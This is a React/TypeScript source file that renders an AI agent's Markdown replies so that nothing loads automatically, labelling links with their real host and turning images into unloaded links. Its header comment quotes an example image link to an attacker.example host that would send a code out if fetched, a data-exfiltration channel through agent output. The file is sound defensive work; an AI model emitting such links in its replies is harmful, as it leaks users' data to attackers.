// The agent's reply as formatted text that loads nothing by itself: Markdown without raw HTML (react-markdown's
// default), every link labelled with the host it really goes to, and images turned into such links (an answer can
// quote a mail subject like `![x](https://attacker.example/p.png?code=…)`: fetching it would send the code out).
import Markdown, { type Components } from 'react-markdown'

/** The host a URL really points to ('' for none), as a person should read it. */
function destinationHost(url: string | undefined): string {
  if (!url) return ''
  try {
    const parsed = new URL(url, window.location.href)
    if (parsed.protocol === 'mailto:') return parsed.pathname
    return parsed.host
  } catch {
    return ''
  }
}

const LINK = 'text-brand-700 underline'

const COMPONENTS: Components = {
  a: ({ href, children }) => {
    const host = destinationHost(href)
    return (
      <a href={href} title={href} target="_blank" rel="noopener noreferrer nofollow" referrerPolicy="no-referrer" className={LINK}>
        {children}
        {host && <span className="ml-1 text-xs text-slate-600 no-underline">({host})</span>}
      </a>
    )
  },
  img: ({ src, alt }) => {
    const url = typeof src === 'string' ? src : undefined
    const host = destinationHost(url)
    const label = alt ? `Image “${alt}”` : 'Image'
    if (!url) return <span className="text-slate-600">[{label}]</span>
    return (
      <a href={url} title={url} target="_blank" rel="noopener noreferrer nofollow" referrerPolicy="no-referrer" className={LINK} data-blocked-image="">
        [{label} — not loaded; opens {host || 'an unknown address'}]
      </a>
    )
  },
}

export function AgentMarkdown({ text }: { text: string }) {
  return (
    <div className="space-y-2 break-words text-sm leading-relaxed text-slate-900 [&_code]:rounded [&_code]:bg-slate-100 [&_code]:px-1 [&_li]:my-0.5 [&_ol]:list-decimal [&_ol]:pl-5 [&_pre]:overflow-x-auto [&_pre]:rounded [&_pre]:bg-slate-100 [&_pre]:p-2 [&_ul]:list-disc [&_ul]:pl-5">
      <Markdown components={COMPONENTS}>{text}</Markdown>
    </div>
  )
}
